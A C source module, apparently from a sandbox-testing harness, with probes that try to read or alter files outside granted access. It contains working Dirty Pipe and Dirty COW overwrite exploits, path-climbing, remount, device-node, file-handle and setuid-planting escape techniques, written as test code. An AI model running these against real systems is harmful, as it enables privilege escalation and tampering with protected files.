/* files.c - reaches for files that were not granted, and changes that were not. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <linux/fs.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdint.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <sched.h>
#include <unistd.h>

#include "probe.h"

#ifndef SYS_mount_setattr
#define SYS_mount_setattr 442
#endif
#define NR_FCHMODAT2 452
#define NR_SETXATTRAT 463
#define NR_FILE_SETATTR 469

static int
probe_read(int argc, char **argv)
{
	report_ready();
	for (int i = 0; i < argc; i++)
		spill_path(argv[i]);
	return 0;
}

/* Hand over the canary by every way that does not name a plain path. */
static int
probe_climb(int argc, char **argv)
{
	static const char *const roots[] = {
		"/proc/self/root", "/proc/1/root", "/proc/self/cwd/../../../../../..",
		"/proc/1/cwd/../../../../..", "/proc/self/fd/0/../../../../..",
		"../../../../../../../..", "/dev/fd/0/../../..", "/proc/1/root/proc/1/root",
	};
	char path[4096];

	(void)argc;
	report_ready();
	for (size_t i = 0; i < ARRAY_LEN(roots); i++) {
		snprintf(path, sizeof(path), "%s%s", roots[i], argv[0]);
		spill_path(path);
	}
	return 0;
}

static int
probe_create(int argc, char **argv)
{
	(void)argc;
	report_ready();
	for (int i = 1; i < argc; i++) {
		int fd = open(argv[i], O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);

		if (fd < 0 || put(fd, argv[0]) < 0)
			report_lost(argv[i]);
		else
			report_won("%s", argv[i]);
		if (fd >= 0)
			close(fd);
	}
	return 0;
}

static int
write_by(const char *path, int flags, const char *text)
{
	int fd = open(path, flags | O_CLOEXEC), r;

	if (fd < 0)
		return -1;
	r = put(fd, text);
	close(fd);
	return r;
}

static int
by_write(const char *path, const char *text)
{
	return write_by(path, O_WRONLY, text);
}

static int
by_append(const char *path, const char *text)
{
	return write_by(path, O_RDWR | O_APPEND, text);
}

static int
by_reopen(const char *path, const char *text)
{
	char again[64];
	int fd = open(path, O_PATH | O_CLOEXEC);

	snprintf(again, sizeof(again), "/proc/self/fd/%d", fd);
	return fd < 0 ? -1 : write_by(again, O_WRONLY | O_APPEND, text);
}

static int
by_flags(const char *path, const char *text)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC), flags = 0;

	(void)text;
	if (fd < 0 || ioctl(fd, FS_IOC_GETFLAGS, &flags) < 0)
		return -1;
	flags |= FS_NODUMP_FL;
	return ioctl(fd, FS_IOC_SETFLAGS, &flags);
}

static int
by_file_setattr(const char *path, const char *text)
{
	struct { unsigned long long xflags; unsigned ext, next, projid, cow; } attr = { .xflags = 0x80 };

	(void)text;
	return (int)syscall(NR_FILE_SETATTR, AT_FDCWD, path, &attr, sizeof(attr), 0);
}

static int
by_xattrat(const char *path, const char *text)
{
	struct { unsigned long long value; unsigned size, flags; } args = {
		(unsigned long long)(size_t)text, (unsigned)strlen(text), 0
	};

	return (int)syscall(NR_SETXATTRAT, AT_FDCWD, path, 0, "user.canary", &args, sizeof(args));
}

static int
by_xattr(const char *path, const char *text)
{
	return setxattr(path, "user.canary", text, strlen(text), 0);
}

static int
by_utimes(const char *path, const char *text)
{
	struct timespec past[2] = { { 1, 0 }, { 1, 0 } };

	(void)text;
	return utimensat(AT_FDCWD, path, past, 0);
}

static const char *
beside(const char *path)
{
	static char to[4096];

	snprintf(to, sizeof(to), "%s.new", path);
	return to;
}

static int
by_tmpfile(const char *path, const char *text)
{
	char dir[4096], name[64], *slash;
	int fd;

	(void)text;
	snprintf(dir, sizeof(dir), "%s", path);
	slash = strrchr(dir, '/');
	*slash = '\0';
	fd = open(dir, O_TMPFILE | O_WRONLY, 0644);
	snprintf(name, sizeof(name), "/proc/self/fd/%d", fd);
	return fd < 0 ? -1 : linkat(AT_FDCWD, name, AT_FDCWD, beside(path), AT_SYMLINK_FOLLOW);
}

/* CVE-2022-0847: a page of the file in a pipe whose buffers were used before, which a write then continues. */
static int
by_pipe(const char *path, const char *text)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC), ends[2], size;
	loff_t at = 0;
	char byte;

	if (fd < 0 || pipe(ends) < 0)
		return -1;
	size = fcntl(ends[1], F_GETPIPE_SZ);
	for (int i = 0; i < size; i++)
		if (write(ends[1], "x", 1) != 1)
			return -1;
	for (int i = 0; i < size; i++)
		if (read(ends[0], &byte, 1) != 1)
			return -1;
	if (splice(fd, &at, ends[1], NULL, 1, 0) != 1)
		return -1;
	return (int)write(ends[1], text, strlen(text)) < 0 ? -1 : 0;
}

/* CVE-2016-5195: a write to a private page races the kernel's dropping of the copy. */
#define COW_TRIES 20000
static void *
drop_copy(void *page)
{
	for (int i = 0; i < COW_TRIES; i++)
		madvise(page, 1, MADV_DONTNEED);
	return NULL;
}

static int
by_cow(const char *path, const char *text)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC), mem = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
	void *page = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
	pthread_t other;

	if (fd < 0 || mem < 0 || page == MAP_FAILED || pthread_create(&other, NULL, drop_copy, page) != 0)
		return -1;
	for (int i = 0; i < COW_TRIES; i++)
		(void)!pwrite(mem, text, strlen(text), (off_t)(uintptr_t)page);
	return pthread_join(other, NULL) == 0 ? 0 : -1;
}

#define BY(name, call) \
	static int by_##name(const char *path, const char *text) { (void)path, (void)text; return (int)(call); }
BY(truncate, truncate(path, 0))
BY(chmod, chmod(path, 0777))
BY(fchmodat2, syscall(NR_FCHMODAT2, AT_FDCWD, path, 0777, 0))
BY(unlink, unlink(path))
BY(rename, rename(path, beside(path)))
BY(mkdir, mkdir(beside(path), 0755))
BY(symlink, symlink("/etc", beside(path)))
BY(fifo, mkfifo(beside(path), 0644))
BY(create, open(beside(path), O_WRONLY | O_CREAT | O_EXCL, 0644))
#undef BY

static const struct {
	const char *name;
	int (*change)(const char *path, const char *text);
} changes[] = {
	{ "write",     by_write     }, { "append",  by_append  }, { "truncate",     by_truncate     },
	{ "reopen",    by_reopen    }, { "chmod",   by_chmod   }, { "fchmodat2",    by_fchmodat2    },
	{ "utimes",    by_utimes    }, { "xattr",   by_xattr   }, { "xattrat",      by_xattrat      },
	{ "flags",     by_flags     }, { "unlink",  by_unlink  }, { "file_setattr", by_file_setattr },
	{ "rename",    by_rename    }, { "mkdir",   by_mkdir   }, { "symlink",      by_symlink      },
	{ "fifo",      by_fifo      }, { "create",  by_create  }, { "tmpfile",      by_tmpfile      },
	{ "pipe",      by_pipe      }, { "cow",     by_cow     },
};

/* OP PATH TEXT: one way of changing PATH. */
static int
probe_change(int argc, char **argv)
{
	struct stat st;

	(void)argc;
	if (lstat(argv[1], &st) < 0)
		return report_lost(argv[1]);
	for (size_t i = 0; i < ARRAY_LEN(changes); i++) {
		if (strcmp(changes[i].name, argv[0]) != 0)
			continue;
		report_ready();
		return changes[i].change(argv[1], argv[2]) < 0 ? report_lost(argv[0])
		                                               : report_won("%s", argv[0]);
	}
	return 2;
}

static int
remount_writable(const char *dir)
{
	struct { unsigned long long set, clr, propagation, userns_fd; } attr = { .clr = 1 };

	if (mount(NULL, dir, NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
		return 0;
	if (mount("none", dir, NULL, MS_REMOUNT, NULL) == 0)
		return 0;
	return (int)syscall(SYS_mount_setattr, AT_FDCWD, dir, 0, &attr, sizeof(attr));
}

/* DIR FILE TEXT: make the read-only mount DIR writable, then write FILE. */
static int
probe_remount(int argc, char **argv)
{
	(void)argc;
	if (access(argv[1], R_OK) < 0)
		return report_lost(argv[1]);
	report_ready();
	if (remount_writable(argv[0]) < 0) {
		report_lost("remount");
		if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0)
			remount_writable(argv[0]);
	}
	return write_by(argv[1], O_WRONLY, argv[2]) < 0 ? report_lost("write") : 0;
}

/* FROM TO: a second name for a file, in a place that may be written. */
static int
probe_link(int argc, char **argv)
{
	char path[64];
	int fd;

	(void)argc;
	if (access(argv[0], R_OK) < 0)
		return report_lost(argv[0]);
	report_ready();
	if (link(argv[0], argv[1]) == 0)
		return report_won("link");
	report_lost("link");
	fd = open(argv[0], O_RDONLY | O_CLOEXEC);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	if (linkat(AT_FDCWD, path, AT_FDCWD, argv[1], AT_SYMLINK_FOLLOW) == 0)
		return report_won("linkat");
	return report_lost("linkat");
}

/* DIR TYPE MAJOR MINOR: make a device node in DIR and print what is on it. */
static int
probe_mknod(int argc, char **argv)
{
	mode_t type = argv[1][0] == 'b' ? S_IFBLK : S_IFCHR;
	dev_t dev = makedev((unsigned)atoi(argv[2]), (unsigned)atoi(argv[3]));
	char path[4096];

	(void)argc;
	if (access(argv[0], W_OK) < 0)
		return report_lost(argv[0]);
	report_ready();
	snprintf(path, sizeof(path), "%s/node", argv[0]);
	if (mknod(path, type | 0600, dev) < 0)
		return report_lost("mknod");
	report_won("mknod");
	if (dev != 0)
		spill_path(path);
	return 0;
}

/* PATH: print the beginning of a device that is there already. */
static int
probe_device(int argc, char **argv)
{
	struct stat st;
	int fd;

	(void)argc;
	if (stat(argv[0], &st) < 0)
		return report_lost(argv[0]);
	report_ready();
	fd = open(argv[0], O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
	if (fd < 0)
		return report_lost("open");
	spill_fd(fd, 4096);
	return 0;
}

/* HELPER LOOT: have a setuid HELPER (this same program) print LOOT. */
static int
probe_setuid(int argc, char **argv)
{
	char *args[] = { argv[0], (char *)probe_nonce, "loot", argv[1], NULL };
	pid_t pid;
	int status;

	(void)argc;
	if (access(argv[0], X_OK) < 0)
		return report_lost(argv[0]);
	report_ready();
	pid = fork();
	if (pid == 0) {
		execv(args[0], args);
		_exit(report_lost("exec"));
	}
	return waitpid(pid, &status, 0) == pid ? 0 : 1;
}

static int
probe_loot(int argc, char **argv)
{
	(void)argc;
	report_won("euid %d", (int)geteuid());
	return spill_path(argv[0]) > 0 ? 0 : 1;
}

/* MOUNTED TYPE HEX: open the file that the handle names, wherever it is. */
static int
probe_handle(int argc, char **argv)
{
	struct { struct file_handle head; unsigned char bytes[128]; } h;
	size_t len = strlen(argv[2]) / 2;
	int mount_fd, fd;
	unsigned byte;

	(void)argc;
	for (size_t i = 0; i < len && i < sizeof(h.bytes); i++) {
		sscanf(argv[2] + 2 * i, "%2x", &byte);
		h.head.f_handle[i] = (unsigned char)byte;
	}
	h.head.handle_bytes = (unsigned)len;
	h.head.handle_type = atoi(argv[1]);
	mount_fd = open(argv[0], O_RDONLY | O_CLOEXEC);
	if (mount_fd < 0)
		return report_lost(argv[0]);
	report_ready();
	fd = open_by_handle_at(mount_fd, &h.head, O_RDONLY);
	if (fd < 0)
		return report_lost("open_by_handle_at");
	spill_fd(fd, 4096);
	return 0;
}

static int
suid_create(const char *path, mode_t mode)
{
	return open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, mode);
}

static int
suid_openat2(const char *path, mode_t mode)
{
	struct { unsigned long long flags, mode, resolve; } how = { O_WRONLY | O_CREAT | O_EXCL, mode, 0 };

	return (int)syscall(437, AT_FDCWD, path, &how, sizeof(how));
}

static int
suid_mknod(const char *path, mode_t mode)
{
	return mknod(path, S_IFREG | mode, 0);
}

static int
suid_chmod(const char *path, mode_t mode)
{
	return suid_create(path, 0755) < 0 ? -1 : chmod(path, mode);
}

static int
suid_upper_bits(const char *path, mode_t mode)
{
	return suid_create(path, 0755) < 0
	       ? -1 : (int)syscall(SYS_fchmodat, AT_FDCWD, path, 1UL << 32 | mode);
}

static int
suid_fchmod(const char *path, mode_t mode)
{
	return fchmod(suid_create(path, 0755), mode);
}

static int
suid_fchmodat2(const char *path, mode_t mode)
{
	return suid_create(path, 0755) < 0 ? -1 : (int)syscall(NR_FCHMODAT2, AT_FDCWD, path, mode, 0);
}

/* DIR MODE: every way of giving a file the bits of MODE. */
static int
probe_suid(int argc, char **argv)
{
	int (*const ways[])(const char *, mode_t) = {
		suid_create, suid_openat2, suid_mknod, suid_chmod, suid_upper_bits, suid_fchmod,
		suid_fchmodat2,
	};
	mode_t mode = (mode_t)strtoul(argv[1], NULL, 8);
	char path[4096];

	(void)argc;
	if (access(argv[0], W_OK) < 0)
		return report_lost(argv[0]);
	umask(0);
	report_ready();
	for (size_t i = 0; i < ARRAY_LEN(ways); i++) {
		snprintf(path, sizeof(path), "%s/program%zu", argv[0], i);
		if (ways[i](path, mode) < 0)
			report_lost(path);
	}
	return 0;
}

static void
make_parents(const char *path)
{
	char dir[4096];

	snprintf(dir, sizeof(dir), "%s", path);
	for (char *c = dir + 1; *c != '\0'; c++) {
		if (*c != '/')
			continue;
		*c = '\0';
		mkdir(dir, 0755);
		*c = '/';
	}
}

/* REMOVE PATH MODE TEXT: take REMOVE away ("-": nothing), then make PATH. */
static int
probe_plant(int argc, char **argv)
{
	int fd;

	(void)argc;
	if (strcmp(argv[0], "-") != 0 && unlink(argv[0]) < 0)
		return report_lost(argv[0]);
	make_parents(argv[1]);
	fd = open(argv[1], O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
	if (fd < 0 || put(fd, argv[3]) < 0)
		return report_lost(argv[1]);
	report_ready();
	return fchmod(fd, (mode_t)strtoul(argv[2], NULL, 8)) < 0 ? report_lost("fchmod") : 0;
}

/* A lease: whoever opens the file for writing has to wait. */
static int
probe_lease(int argc, char **argv)
{
	int fd = open(argv[0], O_RDONLY);

	(void)argc;
	if (fd < 0)
		return report_lost(argv[0]);
	report_ready();
	signal(SIGIO, SIG_IGN);
	if (fcntl(fd, F_SETLEASE, F_RDLCK) < 0)
		return report_lost("F_SETLEASE");
	printf("@made\n");
	fflush(stdout);
	for (;;)
		pause();
}

const struct probe probes_files[] = {
	{ "read",     "PATH...",             probe_read,    1 },
	{ "climb",    "PATH",                probe_climb,   1 },
	{ "create",   "TEXT PATH...",        probe_create,  2 },
	{ "change",   "OP PATH TEXT",        probe_change,  3 },
	{ "remount",  "DIR FILE TEXT",       probe_remount, 3 },
	{ "link",     "FROM TO",             probe_link,    2 },
	{ "mknod",    "DIR TYPE MAJOR MINOR", probe_mknod,  4 },
	{ "device",   "PATH",                probe_device,  1 },
	{ "setuid",   "HELPER LOOT",         probe_setuid,  2 },
	{ "loot",     "PATH",                probe_loot,    1 },
	{ "handle",   "MOUNTED TYPE HEX",    probe_handle,  3 },
	{ "suid",     "DIR MODE",            probe_suid,    2 },
	{ "lease",    "PATH",                probe_lease,   1 },
	{ "plant",    "REMOVE PATH MODE TEXT", probe_plant, 4 },
	{ 0 }
};
